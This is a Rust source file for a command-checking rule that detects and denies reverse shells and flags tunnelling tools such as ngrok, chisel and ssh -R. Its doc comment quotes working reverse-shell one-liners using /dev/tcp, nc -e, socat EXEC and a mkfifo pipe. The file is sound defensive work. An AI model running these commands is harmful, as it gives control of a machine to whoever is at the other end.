use super::{Problem, Rule, about, rule};
use crate::analysis::{Analysis, Found, Stream};
use crate::options::Options;
use crate::syntax::ast::Span;
use crate::text::Text;
use crate::walk::SHELLS;
use crate::world::World;

rule! {
    /// A shell that somebody else can type into over the network.
    ///
    /// ## Why
    /// It hands the machine to whoever is at the other end.
    ///
    /// ## Example
    /// `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, `nc -e /bin/sh …`, `socat TCP:… EXEC:/bin/bash`, `mkfifo f; cat f | sh | nc … > f`
    ///
    /// ## Instead
    /// There is no harmless use of this in a task. To see whether a port is open: `nc -zv localhost 5432`.
    ReverseShell, "reverse-shell", Deny
}

impl Rule for ReverseShell {
    about!();

    fn check(&self, found: &Found, _: &World) -> Option<Problem> {
        let shell = SHELLS.contains(&found.program.as_str());
        let given_away = match found.program.as_str() {
            "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => {
                let from_shell =
                    matches!(&found.input, Stream::Unknown(program) if SHELLS.contains(&program.as_str()));
                from_shell || netcat(&found.arguments)
            }
            "socat" => socat(&found.arguments),
            "xterm" => {
                found.has("-display") && found.arguments.iter().any(|argument| argument.rough().contains(':'))
            }
            "ztcp" => true,
            _ => shell && found.connected,
        };
        given_away.then(problem).or_else(|| opened(found))
    }

    fn check_whole(&self, analysis: &Analysis) -> Vec<(Span, Problem)> {
        let commands = &analysis.commands;
        let any = |names: &[&str]| commands.iter().find(|found| names.contains(&found.program.as_str()));
        let talks = commands.iter().any(|found| {
            matches!(found.program.as_str(), "nc" | "ncat" | "netcat" | "telnet" | "socat")
                || found.program == "openssl" && found.has("s_client")
        });
        let pipe = any(&["mkfifo", "mknod"]);
        match (pipe, any(&SHELLS)) {
            (Some(_), Some(shell)) if talks => vec![(shell.span, problem())],
            _ => vec![],
        }
    }
}

/// A way in from outside that others may find.
fn opened(found: &Found) -> Option<Problem> {
    let ssh = || {
        let options = Options::parse(&found.arguments, "BbcDEeFIiJLlmOopQRSWw", &[]);
        options.has(&["R"])
            || options.values(&["o"]).any(|value| value.rough().to_lowercase().starts_with("remoteforward"))
    };
    let first = found.argument(0).unwrap_or_default();
    let opens = match found.program.as_str() {
        "ssh" | "autossh" => ssh(),
        "tmate" | "upterm" | "gotty" | "ttyd" | "shellhub" | "teleconsole" | "wetty" => {
            !matches!(first, "-V" | "--version" | "--help" | "-h")
        }
        "ngrok" => matches!(first, "http" | "tcp" | "tls" | "start" | "tunnel" | "http2"),
        "cloudflared" => first == "tunnel" && !found.has("list") && !found.has("info"),
        "lt" | "localtunnel" | "bore" | "frpc" | "chisel" | "rathole" | "zrok" | "pinggy" | "gsocket"
        | "gs-netcat" => !matches!(first, "--version" | "--help" | "-h" | "-V"),
        "tailscale" => first == "funnel",
        _ => false,
    };
    opens.then(|| {
        Problem::ask(
            format!("`{}` lets others in from outside", found.program),
            "reach it from this machine, or let the user open the way",
        )
    })
}

fn problem() -> Problem {
    Problem::deny(
        "this gives a shell to another machine",
        "to see whether a port is open, use `nc -zv localhost 5432`",
    )
}

/// Options that give a program to the connection.
fn netcat(arguments: &[Text]) -> bool {
    let texts: Vec<String> = arguments.iter().map(Text::rough).collect();
    let names_shell = |text: &str| {
        let word = text.split_whitespace().next().unwrap_or_default();
        let base = word.rsplit('/').next().unwrap_or_default();
        SHELLS.contains(&base) || matches!(base, "cmd.exe" | "powershell" | "python3" | "perl")
    };
    texts.iter().enumerate().any(|(at, text)| {
        if let Some(long) = text.strip_prefix("--") {
            return ["exec", "sh-exec", "lua-exec"]
                .iter()
                .any(|name| long == *name || long.starts_with(&format!("{name}=")));
        }
        let Some(flags) = text.strip_prefix('-') else { return false };
        let next = texts.get(at + 1).map(String::as_str).unwrap_or_default();
        flags.contains('e') && flags.len() <= 6 || flags.ends_with('c') && names_shell(next)
    })
}

fn socat(arguments: &[Text]) -> bool {
    let texts: Vec<String> = arguments.iter().map(|argument| argument.rough().to_uppercase()).collect();
    let begins = |words: &[&str]| texts.iter().any(|text| words.iter().any(|word| text.starts_with(word)));
    begins(&["EXEC:", "SYSTEM:", "SHELL:"])
        && begins(&["TCP", "UDP", "OPENSSL", "SSL", "SCTP", "SOCKS", "PROXY", "VSOCK"])
}
